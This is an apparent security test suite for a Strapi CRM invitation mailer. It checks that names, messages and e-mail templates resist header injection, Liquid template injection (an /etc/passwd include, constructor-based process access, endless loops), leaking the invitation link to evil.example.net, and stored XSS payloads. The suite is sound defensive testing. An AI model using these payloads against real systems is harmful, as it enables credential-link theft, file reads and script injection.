import { Parser } from 'htmlparser2';
import { bootStrapi, type TestApp } from '../helpers/strapi';
import { createStage, eventually, type Stage } from '../integration/support/stage';

let app: TestApp;
let stage: Stage;

beforeAll(async () => {
  app = await bootStrapi();
  stage = await createStage(app);
});
afterAll(async () => app.stop());

let people = 0;
/** The e-mail to a person with this name, with this message of the sender. */
const mailTo = async (name: string, message = name) => {
  people += 1;
  const email = `person${people}@example.org`;
  const { documentId } = await stage.contact({ firstName: name, lastName: name, company: name, email });
  await stage.invite(documentId, { message });
  await stage.codeSentTo(email);
  await stage.jobsDone();
  return app.mailbox.lastTo(email);
};

interface Element {
  name: string;
  attributes: Record<string, string>;
}
const elementsOf = (html: string): Element[] => {
  const elements: Element[] = [];
  const parser = new Parser({ onopentag: (name, attributes) => elements.push({ name, attributes }) });
  parser.end(html);
  return elements;
};
const shapeOf = (html: string): string[] =>
  elementsOf(html).map(({ name, attributes }) => [name, ...Object.keys(attributes)].join(' '));

describe('an injection into mail', () => {
  it.each(['Ada\r\nBcc: eve@example.org', 'Ada\nTo: eve@example.org', 'Ada\u2028X: y', 'Ada\u0007'])(
    'adds no header by a name: %j',
    async (name) => {
      const mail = await mailTo(name, 'Hello');
      const { html: _html, text: _text, ...headers } = mail;
      expect(JSON.stringify(headers)).not.toMatch(/\\[rn]|\\u00|\u2028/);
      expect(headers.to).toMatch(/^person\d+@example\.org$/);
      expect(Object.keys(headers.headers ?? {})).toEqual(['Auto-Submitted']);
    }
  );

  it.each([
    '{{ link }}',
    '{{ contact.email }}{% for i in (1..9999999) %}x{% endfor %}',
    "{% include '/etc/passwd' %}{% render 'x' %}",
    '{{ contact.constructor.constructor("return process")() }}',
  ])('is text, not a template, in a name or a message: %s', async (text) => {
    const mail = await mailTo(text);
    expect(mail.text).toContain(text);
    expect(mail.text.match(/invitation=/g)).toHaveLength(1);
    expect(mail.subject).not.toContain('invitation=');
  });

  it.each([
    ['reads a file', "{% include '/etc/passwd' %}"],
    ['never ends', '{% for i in (1..99999999) %}{% for j in (1..99999999) %}x{% endfor %}{% endfor %}'],
    ['sends the link to somebody else', '<img src="https://evil.example.net/?{{ link }}">'],
    [
      'encodes the link',
      '{{ link | base64_encode }}<a href="https://evil.example.net/{{ link | url_encode }}">x</a>',
    ],
  ])('is refused in a template that %s', async (_what, html) => {
    const answer = await stage.admin('put', `/portals/${stage.portal.documentId}`, {
      emailTemplates: { en: { subject: 'Hello', html: `<a href="{{ link }}">x</a>${html}` } },
    });
    expect([answer.status, answer.body.error.details.code]).toEqual([400, 'request.invalid']);
  });

  it('fails only the invitations of a template that was stored elsewhere, with the reason', async () => {
    const stored = {
      de: { subject: 'Hallo', html: `{% assign a=(1..2400000) %}<a href="{{ link }}">x</a>` },
      fr: { subject: 'Bonjour', html: 'https://evil.example.net/?q=<a href="{{ link }}"></a>' },
    };
    const portals = app.strapi.db.query('plugin::crm-user-invite.portal');
    const where = { documentId: stage.portal.documentId };
    await portals.update({ where, data: { emailTemplates: stored } });
    const of = async (language: string) => {
      const email = `${language}@example.org`;
      const { documentId } = await stage.contact({ email, language });
      return documentId;
    };
    const [german, french, english] = [await of('de'), await of('fr'), await of('en')];
    await stage.invite([german, french, english]);
    await stage.codeSentTo('en@example.org');
    const { body } = await eventually(async () => {
      const answer = await stage.admin('get', '/invitations?status=failed');
      return answer.body.data.length === 2 && answer;
    });
    const reasons = Object.fromEntries(
      body.data.map((each: { contact: { id: string }; failure: string }) => [each.contact.id, each.failure])
    );
    expect(reasons).toEqual({
      [german]: 'html: takes too much time or memory',
      [french]: expect.stringContaining('html: the link must stand alone'),
    });
    const preview = await stage.admin(
      'get',
      `/portals/${stage.portal.documentId}/template-preview?locale=de`
    );
    expect([preview.status, preview.body.error.details.code]).toEqual([409, 'template.invalid']);
    expect(preview.body.error.message).toBe('html: takes too much time or memory');
    await portals.update({ where, data: { emailTemplates: {} } });
    const jobs = await stage.admin('get', '/jobs');
    expect(jobs.body.data).toMatchObject([{ state: 'failed' }, { state: 'failed' }]);
    await app.strapi.db.query('plugin::crm-user-invite.job').deleteMany({});
  });

  it('has access only to the given values in a template', async () => {
    const html =
      '<a href="{{ link }}">x</a>[{{ contact.constructor }}{{ contact.__proto__ }}{{ process }}{{ portal.emailTemplates }}]';
    const path = `/portals/${stage.portal.documentId}`;
    const templates = { emailTemplates: { en: { subject: 'Hello', html } } };
    expect((await stage.admin('put', path, templates)).status).toBe(200);
    expect((await mailTo('Ada')).html).toContain('[]');
    await stage.admin('put', path, { emailTemplates: {} });
  });
});

describe('stored script in contact names shown in admin and mail', () => {
  it.each([
    '<script>alert(1)</script>',
    '"><img src=x onerror=alert(1)>',
    '<a href="javascript:alert(1)">click</a>',
    '</a></td></table><iframe srcdoc="<script>1</script>">',
    '&lt;script&gt;',
  ])('is text in the mail: %s', async (name) => {
    const harmless = await mailTo('Ada');
    const mail = await mailTo(name);
    expect(shapeOf(mail.html)).toEqual(shapeOf(harmless.html));
    expect(mail.text).toContain(name);
  });
});
